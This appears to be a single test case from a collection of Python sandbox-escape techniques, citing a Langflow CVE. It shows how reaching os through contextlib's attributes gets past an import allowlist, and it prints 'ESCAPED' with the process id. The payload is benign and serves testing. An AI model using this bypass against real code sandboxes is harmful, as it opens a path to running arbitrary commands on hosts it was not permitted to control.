# technique: an imported module as attribute of a granted one
# goal: import
# source: langflow, CVE-2026-10561 (json.codecs.sys)
import contextlib
print('ESCAPED pid=%d' % contextlib.os.getpid())
